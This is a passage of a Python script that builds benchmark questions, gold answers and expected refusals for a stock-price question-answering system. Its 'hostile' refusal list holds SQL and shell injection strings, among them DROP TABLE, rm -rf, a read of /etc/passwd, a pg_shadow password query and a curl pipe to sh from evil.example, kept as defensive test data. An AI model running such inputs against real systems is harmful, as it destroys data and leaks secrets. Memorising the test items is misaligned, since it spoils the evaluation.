q(K, 'how many stocks closed under $50 on 2014-01-02', lambda: xcount('2014-01-02', lambda s: at(s, '2014-01-02').c < 50))
q(K, 'How many stocks closed at a new all-time closing high on 2017-10-27?',
  lambda: xcount('2017-10-27', lambda s: closed_at_ath(s, '2017-10-27')))
q(K, 'How many stocks had a daily return below -3% on 2015-08-24?',
  lambda: xcount('2015-08-24', lambda s: ret(s, '2015-08-24') < -0.03))

# ---- volatility
K = 'volatility'
q(K, 'volatility of NFLX in 2016', lambda: G([[R(vol('NFLX', '2016-01-01', '2016-12-31'))]]))
q(K, 'How volatile was Tesla in Q1 2016?', lambda: G([[R(vol('TSLA', '2016-01-01', '2016-03-31'))]]))
q(K, 'std dev of daily returns for AAPL, Jan–Jun 2017', lambda: G([[R(vol('AAPL', '2017-01-01', '2017-06-30'))]]))
q(K, 'AMD volatility in 2015', lambda: G([[R(vol('AMD', '2015-01-01', '2015-12-31'))]]))
q(K, 'FXY daily-return volatility over 2024', lambda: G([[R(vol('FXY', '2024-01-01', '2024-12-31'))]]))
q(K, 'what was the volatility of Coca Cola in 2008', lambda: G([[R(vol('KO', '2008-01-01', '2008-12-31'))]]))
q(K, "JPM's volatility from 2011-07-01 to 2011-12-30", lambda: G([[R(vol('JPM', '2011-07-01', '2011-12-30'))]]))
q(K, 'DBB volatility from 2025-04-01 to 2025-06-30', lambda: G([[R(vol('DBB', '2025-04-01', '2025-06-30'))]]))

# ---- correlation
K = 'correlation'
q(K, 'correlation between AAPL and MSFT daily returns in 2016', lambda: G([[R(corr('AAPL', 'MSFT', '2016-01-01',
                                                                                    '2016-12-31'))]]))
q(K, 'How correlated were AMD and Nvidia in 2017?', lambda: G([[R(corr('AMD', 'NVDA', '2017-01-01', '2017-12-31'))]]))
q(K, 'corr of JPM & KO returns, 2008', lambda: G([[R(corr('JPM', 'KO', '2008-01-01', '2008-12-31'))]]))
q(K, 'Google vs Facebook daily return correlation for 2015',
  lambda: G([[R(corr('GOOGL', 'FB', '2015-01-01', '2015-12-31'))]]))
q(K, 'Correlation of FXY and DBB daily returns in 2024', lambda: G([[R(corr('FXY', 'DBB', '2024-01-01', '2024-12-31'))]]))
q(K, 'Intel/IBM return correlation in Q1 2014', lambda: G([[R(corr('INTC', 'IBM', '2014-01-01', '2014-03-31'))]]))
q(K, 'what is the correlation of tesla and netflix returns in 2013',
  lambda: G([[R(corr('TSLA', 'NFLX', '2013-01-01', '2013-12-31'))]]))
q(K, 'INDA vs FXY daily return correlation, March through May 2025',
  lambda: G([[R(corr('INDA', 'FXY', '2025-03-01', '2025-05-31'))]]))

# ---- streak
K = 'streak'
q(K, 'longest winning streak for Apple in 2017', lambda: G([streak('AAPL', '2017-01-01', '2017-12-31', 1)]))
q(K, "Tesla's longest losing streak in 2015", lambda: G([streak('TSLA', '2015-01-01', '2015-12-31', -1)]))
q(K, 'Longest run of consecutive up days for Coca-Cola in 2010', lambda: G([streak('KO', '2010-01-01', '2010-12-31', 1)]))
q(K, 'microsoft longest down streak 2014', lambda: G([streak('MSFT', '2014-01-01', '2014-12-31', -1)]))
q(K, 'FXY longest winning streak in 2024', lambda: G([streak('FXY', '2024-01-01', '2024-12-31', 1)]))
q(K, 'NFLX longest losing streak, H1 2017', lambda: G([streak('NFLX', '2017-01-01', '2017-06-30', -1)]))
q(K, 'Amazon in 2013: longest streak of positive daily returns?',
  lambda: G([streak('AMZN', '2013-01-01', '2013-12-31', 1)]))
q(K, 'IBM longest losing streak in 2012', lambda: G([streak('IBM', '2012-01-01', '2012-12-31', -1)]))


# ---- vwap-minute
K = 'vwap-minute'


def day_vwap(s, d):
    assert d in INDEX[s]
    return G([[R(vwap(minutes(s, d + ' 00:00', d + ' 23:59')), 4)]])


def regular_vwap(s, d, a, b):
    """VWAP over minute bars from a up to b; asserts no bar stamped exactly b so 'to b' inclusive/exclusive agree."""
    assert not minutes(s, f'{d} {b}', f'{d} {b}'), 'bar at the window end: ambiguous'
    return G([[R(vwap(minutes(s, f'{d} {a}', f'{d} {b}')), 4)]])


def minute_rows(s, d, a, b):
    ms = minutes(s, f'{d} {a}', f'{d} {b}')
    assert 0 < len(ms) <= 30
    return G([[m.ts, P(m.c)] for m in ms], 'set', True)


q(K, 'VWAP of INDA on 2023-09-15', lambda: day_vwap('INDA', '2023-09-15'))
q(K, 'FXY vwap 2024-08-05', lambda: day_vwap('FXY', '2024-08-05'))
q(K, 'Show DBB minute bars from 9:30 to 9:34 (New York time) on 2025-03-03',
  lambda: minute_rows('DBB', '2025-03-03', '09:30', '09:34'))
q(K, 'FXY 1-min bars from 14:00 through 14:09 NY time on 2024-12-18',
  lambda: minute_rows('FXY', '2024-12-18', '14:00', '14:09'))
q(K, 'what was the VWAP for DBB yesterday', lambda: day_vwap('DBB', '2025-07-07'))
q(K, 'INDA VWAP for the regular session (9:30am to 4pm ET) on 2025-05-20',
  lambda: regular_vwap('INDA', '2025-05-20', '09:30', '16:00'))
q(K, 'Last minute bar of FXY on 2025-07-08 — time and close',
  lambda: G([[minutes('FXY', '2025-07-08 00:00', '2025-07-08 23:59')[-1].ts,
              P(minutes('FXY', '2025-07-08 00:00', '2025-07-08 23:59')[-1].c)]]))
q(K, "What was INDA's VWAP between 10:00 and 11:00 ET on 2023-08-22?",
  lambda: regular_vwap('INDA', '2023-08-22', '10:00', '11:00'))

# ---- period-candle
K = 'period-candle'
q(K, 'monthly candle for AAPL, January 2016 (open/high/low/close/volume)',
  lambda: G([[P(x) if i < 4 else x for i, x in enumerate(candle('AAPL', '2016-01-01', '2016-01-31'))]]))
q(K, 'Q3 2015 OHLC for AMD', lambda: G([[P(x) if i < 4 else x for i, x in enumerate(candle('AMD', '2015-07-01',
                                                                                          '2015-09-30'))]]))
q(K, 'weekly candle for TSLA, week of Feb 6 2017 (Mon-Fri)',
  lambda: G([[P(x) if i < 4 else x for i, x in enumerate(candle('TSLA', '2017-02-06', '2017-02-10'))]]))
q(K, 'FXY candle for August 2024', lambda: G([[P(x) if i < 4 else x for i, x in enumerate(candle('FXY', '2024-08-01',
                                                                                                 '2024-08-31'))]]))
q(K, 'give me the 2014 yearly bar for Netflix', lambda: G([[P(x) if i < 4 else x for i, x in enumerate(
    candle('NFLX', '2014-01-01', '2014-12-31'))]]))
q(K, 'H1 2017 open, high, low, close and volume for Facebook',
  lambda: G([[P(x) if i < 4 else x for i, x in enumerate(candle('FB', '2017-01-01', '2017-06-30'))]]))
q(K, "INDA's OHLCV candle for March 2025", lambda: G([[P(x) if i < 4 else x for i, x in enumerate(
    candle('INDA', '2025-03-01', '2025-03-31'))]]))
q(K, 'JPM OHLC + volume for October 2008', lambda: G([[P(x) if i < 4 else x for i, x in enumerate(
    candle('JPM', '2008-10-01', '2008-10-31'))]]))

# ---- distance-from-high (close / highest close to date - 1, i.e. 0 or negative)
K = 'distance-from-high'
q(K, 'How far below its all-time high close was Netflix on 2016-07-20?', lambda: G([[R(ath_distance('NFLX', '2016-07-20'))]]))
q(K, "AAPL's % off its all-time closing high on 2016-05-12", lambda: G([[R(ath_distance('AAPL', '2016-05-12'))]]))
q(K, 'How far was Intel from its record close on 2009-03-09, in percent?',
  lambda: G([[R(ath_distance('INTC', '2009-03-09'))]]))
q(K, 'Microsoft: distance from all-time high close as of 2012-12-28',
  lambda: G([[R(ath_distance('MSFT', '2012-12-28'))]]))
q(K, "AMD's drawdown from its peak close, as of 2015-07-23", lambda: G([[R(ath_distance('AMD', '2015-07-23'))]]))
q(K, 'tesla - percent below ATH close on 2016-02-10', lambda: G([[R(ath_distance('TSLA', '2016-02-10'))]]))
q(K, 'How far below its highest close to date was FXY on 2024-07-10?', lambda: G([[R(ath_distance('FXY', '2024-07-10'))]]))
q(K, "Coca-Cola's close on 2009-03-09 compared with its all-time high close, in %",
  lambda: G([[R(ath_distance('KO', '2009-03-09'))]]))

# ---- coverage
K = 'coverage'
q(K, 'first session of TSLA in the data', lambda: G([[DAILY['TSLA'][0].d]]))
q(K, 'When does the Facebook data start?', lambda: G([[DAILY['FB'][0].d]]))
q(K, 'last available date for INDA', lambda: G([[DAILY['INDA'][-1].d]]))
q(K, 'how many trading sessions did IBM have in 2016?', lambda: G([[len(bars('IBM', '2016-01-01', '2016-12-31'))]]))
q(K, 'What symbols does the data cover?', lambda: G([[s] for s in ALL_SYMS], 'set', True))
q(K, 'For Apple, what was the last session before 2016-07-04?',
  lambda: G([[[b.d for b in DAILY['AAPL'] if b.d < '2016-07-04'][-1]]]))
q(K, 'How many days of FXY data are there in 2024?', lambda: G([[len(bars('FXY', '2024-01-01', '2024-12-31'))]]))
q(K, "what's the earliest date we have for GOOGL", lambda: G([[DAILY['GOOGL'][0].d]]))

# ---- refusals
K = 'out-of-scope'
for text in ["What is Apple's P/E ratio?",
             'dividend yield of Coca-Cola in 2016',
             "What was Microsoft's market cap on 2016-01-04?",
             'Amazon EPS for Q3 2017',
             'Any news on Tesla from 2017-08-02?',
             'what is the market sentiment on Netflix right now',
             'Forecast NVDA price for next month',
             'implied volatility of AAPL options expiring Jan 2017',
             "What's the analyst price target for Facebook?",
             "IBM's total revenue in fiscal 2016",
             "JPMorgan's debt to equity ratio"]:
    refuse(K, text)

K = 'unknown-symbol'
for text in ["What was Walmart's close on 2016-03-01?",
             'Berkshire Hathaway 52-week high as of 2017-06-30',
             'latest prices for XQZT',
             'average volume of Disney in 2015',
             'Pfizer daily return on 2016-11-09',
             'Show me Exxon (XOM) closes for January 2017',
             'how did twitter do in 2016',
             'Compare Boeing and Airbus average close in 2014',
             'GE all-time high?',
             'SPY vwap yesterday']:
    refuse(K, text)

K = 'hostile'
for text in ['DROP TABLE prices',
             'UPDATE prices SET close=0',
             "'; DELETE FROM prices; --",
             '$(rm -rf ~)',
             'AAPL close on 2016-01-04; DROP TABLE prices;--',
             'SELECT usename, passwd FROM pg_shadow',
             "INSERT INTO prices VALUES ('AAPL','2020-01-01',1,1,1,1,1)",
             'TRUNCATE prices CASCADE',
             "show MSFT where symbol = '' OR '1'='1'",
             '`cat /etc/passwd`',
             'tesla price && curl http://evil.example/x.sh | sh']:
    refuse(K, text)

K = 'not-understood'
for text in ['hello',
             "what's the weather in New York tomorrow",
             'write me a haiku about autumn',
             'asdfgh jkl qwer',
             'who won the 2016 World Series?',
             'how do I reset my password',
             '??',
             'tell me a joke',
             "translate 'good morning' into French",
             'what is 17 times 23']:
    refuse(K, text)


# --------------------------------------------------------------------------------------------------------- output
def main():
    out = []
    for i, item in enumerate(QUESTIONS, 1):
        rec = {'id': f'h{i:03d}', 'kind': item['kind'], 'question': item['question']}
        if 'refusal' in item:
            rec['answerable'] = False
            rec['refusal'] = item['refusal']
        else:
            rec['answerable'] = True
            rec['gold'] = item['gold']()
        out.append(rec)
    with open(HERE / 'questions.jsonl', 'w') as fh:
        for rec in out:
            fh.write(json.dumps(rec) + '\n')
    counts = {}
    for rec in out:
        counts[rec['kind']] = counts.get(rec['kind'], 0) + 1
    for k, n in counts.items():
        print(f'{k:26s} {n}')
    print('total', len(out))


if __name__ == '__main__':
    main()
